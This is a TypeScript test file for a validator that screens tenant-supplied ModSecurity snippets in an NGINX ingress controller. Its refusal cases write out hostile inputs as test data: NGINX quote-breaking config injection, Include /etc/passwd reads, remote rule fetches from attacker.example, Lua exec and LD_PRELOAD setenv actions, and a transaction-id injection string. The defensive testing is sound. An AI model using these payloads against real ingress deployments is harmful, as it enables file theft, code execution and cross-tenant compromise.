// modsecurity-snippet as NGINX and libmodsecurity read it: the text must stay inside
// `modsecurity_rules '…'`, and a tenant's rules are a subset of SecLang that acts only on the
// tenant's own requests. Each refused case is one a hostile tenant would try (file reads through
// Include and its error message, file writes through log directives, scripts, shared persistent
// collections, engine-wide settings) or one where two readings of SecLang could disagree.
import { test } from 'uvu';
import * as assert from 'uvu/assert';
import { quoteForNginx, readActions, readRules, rulesChunks, tenantRulesProblem, unquoteNginx, MAX_RULES_CHUNK } from '../../../src/model/checks/seclang.js';
import { nginxUnescape } from '../../../src/model/checks/nginx-escape.js';
import { tenantRules, transactionId } from '../../../src/model/ingress/annotations/modsecurity.js';
import { InvalidValue } from '../../../src/model/checks/validate.js';
import { snippetProblem } from '../../../src/model/checks/snippet-check.js';

/** ingress-nginx's e2e snippet, as its users write it (NGINX escapes inside single quotes). */
const INGRESS_NGINX_SNIPPET = `SecRuleEngine On
SecRequestBodyAccess On
SecAuditEngine RelevantOnly
SecAuditLogParts ABIJDEFHZ
SecAuditLog /dev/stdout
SecAuditLogType Serial
SecRule REQUEST_HEADERS:User-Agent \\"block-ua\\" \\"log,deny,id:107,status:403,msg:\\'UA blocked\\'\\"`;

const refusal = (raw: string): string => {
  try {
    tenantRules(raw);
  } catch (err) {
    if (err instanceof InvalidValue) return err.message;
    throw err;
  }
  return 'accepted';
};

test("ingress-nginx's own modsecurity-snippets pass and reach ModSecurity as ingress-nginx hands them over", () => {
  const chunks = tenantRules(INGRESS_NGINX_SNIPPET);
  assert.is(chunks.length, 1);
  assert.ok(chunks[0]!.includes(`SecRule REQUEST_HEADERS:User-Agent "block-ua" "log,deny,id:107,status:403,msg:'UA blocked'"`));
  // Printed back for NGINX, NGINX's unescaping gives ModSecurity the same text.
  assert.is(nginxUnescape(quoteForNginx(chunks[0]!)), chunks[0]);
  const ok = [
    'SecRuleEngine DetectionOnly',
    'SecRuleRemoveById 920350 941100-941199',
    'SecRuleRemoveByTag "attack-sqli"',
    'SecRuleUpdateTargetById 942100 !ARGS:password',
    'SecAction \\"id:900000,phase:1,nolog,pass,t:none,setvar:tx.paranoia_level=2\\"',
    // CRS style: continuations between arguments and after commas, a quoted message over a continuation.
    'SecRule REQUEST_URI|ARGS:/^q/ \\"@rx (?i)union\\\\s+select\\" \\\n    \\"id:1001,\\\n    phase:2,\\\n    block,\\\n    t:none,t:lowercase,\\\n    msg:\\\'SQL, injection\\\',\\\n    ctl:ruleRemoveById=942100,\\\n    setvar:\\\'tx.anomaly_score=+%{tx.critical_anomaly_score}\\\'\\"',
    '# a comment\nSecRule ARGS \\"@detectSQLi\\" \\"id:1002,phase:2,deny,status:403,chain\\"\nSecRule REMOTE_ADDR \\"!@ipMatch 10.0.0.0/8\\"',
    'SecResponseBodyMimeType text/plain application/json',
    'SecDefaultAction \\"phase:2,log,auditlog,deny,status:403\\"',
  ];
  for (const raw of ok) assert.is(refusal(raw), 'accepted', raw);
});

test('text that would leave its NGINX quoted string, or escape its closing quote, is refused', () => {
  // The CVE pattern: a bare quote ends modsecurity_rules and the rest becomes NGINX directives.
  assert.match(refusal("SecRuleEngine On';\n}\nserver { listen 9999; location / { return 200 pwned; } }\nlocation /x { #"), /unescaped ' would end modsecurity_rules/);
  assert.match(refusal('SecRuleEngine On\\'), /ends with a backslash/);
  assert.match(refusal('SecRuleEngine On\u0000'), /control character \\x00/);
  assert.match(refusal('SecRuleEngine On\r\nSecRuleEngine Off'), /control character \\x0d|carriage return/);
  assert.throws(() => unquoteNginx("a'b"));
  assert.is(unquoteNginx("a\\'b \\\\ \\n"), "a'b \\ \n");
});

test("directives that reach the node, the network or other tenants' requests are refused, naming the line", () => {
  const cases: Array<[string, RegExp]> = [
    // Include's parse error prints the first line of the file it read (measured: /etc/passwd's root line).
    ['SecRuleEngine On\nInclude /etc/passwd', /line 2: Include reads files on the node/],
    ['include /var/lib/ingress-rx/run/control.token', /include reads files/],
    ['SecAuditLog /var/lib/ingress-rx/nginx.conf', /may only name \/dev\/stdout or \/dev\/stderr/],
    ['SecDebugLog /tmp/x.lua\nSecDebugLogLevel 9', /SecDebugLog writes a file/],
    ['SecAuditLogStorageDir /etc/cron.d', /writes files/],
    ['SecRemoteRules key https://attacker.example/rules', /fetches rules over the network/],
    ['SecRuleScript /tmp/x.lua \\"id:1\\"', /runs a Lua script/],
    ['SecXmlExternalEntity On', /read files and URLs/],
    ['SecUnicodeMapFile /etc/shadow 20127', /reads a file/],
    ['SecCollectionTimeout 1', /every Ingress shares/],
    ['SecServerSignature nginx', /every Ingress shares/],
    ['SecPcreMatchLimit 100000000', /every Ingress shares/],
    ['SecRule ARGS \\"@inspectFile /tmp/x.sh\\" \\"id:1\\"', /@inspectFile runs a program/],
    ['SecRule ARGS \\"@pmFromFile https://attacker.example/list\\" \\"id:1\\"', /@pmFromFile reads a file on the node or fetches a URL/],
    ['SecRule ARGS \\"@ipMatchF /etc/passwd\\" \\"id:1\\"', /@ipMatchF reads a file/],
    ['SecRule ARGS \\"@rbl attacker.example\\" \\"id:1\\"', /@rbl makes DNS lookups/],
    ['SecRule ARGS \\"@rx .\\" \\"id:1,pass,exec:/tmp/x.lua\\"', /action exec runs a script/],
    ['SecRule ARGS \\"@rx .\\" \\"id:1,pass,EXEC:/tmp/x.lua\\"', /action EXEC runs a script/],
    // Measured: an IP collection written in one location is read in another.
    ['SecAction \\"id:1,phase:1,pass,nolog,initcol:ip=%{remote_addr},setvar:ip.blocked=1\\"', /initcol opens a persistent collection/],
    ['SecAction \\"id:1,phase:1,pass,setvar:ip.reput_block_flag=1\\"', /setvar may only change the transaction's TX collection/],
    ['SecAction \\"id:1,phase:1,pass,setvar:\\\'global.x=1\\\'\\"', /TX collection/],
    ['SecAction \\"id:1,phase:1,pass,setenv:LD_PRELOAD=/tmp/x.so\\"', /setenv sets the NGINX worker's environment/],
    ['SecAction \\"id:1,phase:1,pass,pause:100000\\"', /pause stalls the NGINX worker/],
    ['SecAction \\"id:1,phase:1,pass,ctl:debugLogLevel=9\\"', /ctl:debugLogLevel=9 is not allowed/],
    ['server { }', /server is not a ModSecurity directive/],
  ];
  for (const [raw, re] of cases) assert.match(refusal(raw), re, raw);
});

test('ambiguous SecLang, where two readings could disagree on what is a directive or an action, is refused', () => {
  const cases: Array<[string, RegExp]> = [
    // A directive hidden behind another one's arguments on the same (logical) line.
    ['SecRuleEngine On Include /etc/passwd', /SecRuleEngine takes one argument/],
    ['SecRuleEngine On \\\nInclude /etc/passwd', /SecRuleEngine takes one argument/],
    ['SecAction \\"id:1,pass\\" Include /etc/passwd', /SecAction takes one argument/],
    // A comment carried over a continuation by libmodsecurity's comment rule.
    ['#SecRule ARGS x \\\nInclude /etc/passwd', /comment ends with a backslash/],
    // A double quote inside a single-quoted value: libmodsecurity keeps reading the value.
    ['SecAction \\"id:1,msg:\\\'x\\" exec:/tmp/a.lua \\\'\\"', /quote inside the word|never closed|takes one argument/],
    ['SecRule ARGS "@rx a', /never closed/],
    ['SecRule ARGS \\"@rx a\nb\\" \\"id:1\\"', /runs past the end of its line/],
    ['SecRule ARGS \\"@rx a\\\\\nb\\" \\"id:1\\"', /operator must stay on one line/],
    ['SecAction \\"id:1\\\nxx,pass\\"', /line continuation inside the value of id/],
    ['SecRule ARG\\\'S \\"@rx a\\"', /quote inside the word/],
    ['SecAction id:1,pass', /actions must be written in double quotes/],
    ['SecAction \\"id:1,,pass\\"', /does not start an action/],
    ['SecAction \\"id:1,msg:%{x,y}\\"', /macro "%\{x,y\}" holds a quote, comma/],
    ['SecAction \\"id:1,msg:\\\'%{x\\\'},exec:/tmp/a.lua,\\\'}\\\'\\"', /macro "%\{x'\}" holds a quote/],
  ];
  for (const [raw, re] of cases) assert.match(refusal(raw), re, raw);
});

test('the reader follows libmodsecurity: directives, arguments, continuations, actions', () => {
  const text = unquoteNginx('SecRule ARGS \\"@rx a\\\\\\"b\\" \\\n  \\"id:1,\\\n  msg:\\\'a, b\\\',t:none\\"\n# c\nSecRuleEngine On');
  const d = readRules(text);
  assert.equal(d.map((x) => [x.name, x.args.map((a) => a.text), x.line]), [
    ['SecRule', ['ARGS', '@rx a\\"b', 'id:1,\\\nmsg:\'a, b\',t:none'], 1],
    ['SecRuleEngine', ['On'], 5],
  ]);
  assert.equal(readActions("id:1,\\\n  msg:'a, b',t:none, status:403"), [
    { name: 'id', value: '1' }, { name: 'msg', value: 'a, b' }, { name: 't', value: 'none' }, { name: 'status', value: '403' },
  ]);
  assert.is(tenantRulesProblem(text), null);
});

test('long rules are split for NGINX between directives, never inside a chain', () => {
  const rule = (i: number, chain = false) => `SecRule ARGS:a${i} "@streq ${'x'.repeat(60)}" "id:${1000 + i},phase:1,deny${chain ? ',chain' : ''}"`;
  const lines: string[] = [];
  for (let i = 0; i < 120; i++) lines.push(rule(i, i % 10 === 9), ...(i % 10 === 9 ? ['SecRule ARGS:b "@streq y" "t:none"'] : []));
  const chunks = rulesChunks(lines.join('\n'));
  assert.ok(chunks.length > 2, String(chunks.length));
  for (const c of chunks) {
    assert.ok(quoteForNginx(c).length <= MAX_RULES_CHUNK);
    // A chained rule is in the same piece as the rule that starts the chain.
    assert.not.match(c, /^SecRule ARGS:b/);
  }
  assert.equal(chunks.join('\n').split('\n'), lines);
  assert.throws(() => rulesChunks(`SecRule ARGS "@rx ${'a'.repeat(MAX_RULES_CHUNK)}" "id:1"`), /longer than NGINX takes/);
  assert.equal(rulesChunks('# only a comment\n'), []);
});

test('modsecurity_rules in a configuration-snippet is read by the same rules; rule files and remote rules are refused', () => {
  assert.is(snippetProblem("modsecurity_rules 'SecRuleEngine On';"), null);
  assert.match(snippetProblem("modsecurity_rules 'Include /etc/passwd';") ?? '', /modsecurity_rules: line 1: Include reads files/);
  assert.match(snippetProblem('modsecurity_rules_file /etc/passwd;') ?? '', /reads another file/);
  assert.match(snippetProblem('modsecurity_rules_remote key https://x/y;') ?? '', /fetches rules over the network/);
});

test('modsecurity-transaction-id: letters, digits, -, _ and NGINX variables, as ingress-nginx', () => {
  for (const ok of ['$request_id', 'modsecurity-$request_id', '${request_id}x', 'abc_1']) assert.is(transactionId(ok), ok);
  assert.is(transactionId('${request_id}-${host}'), '$request_id-$host');
  for (const bad of ['$', '${', 'a}b', '$request_id"; return 200 x;#', 'a b', '${1x}']) assert.throws(() => transactionId(bad), (e: unknown) => e instanceof InvalidValue, bad);
});

test.run();
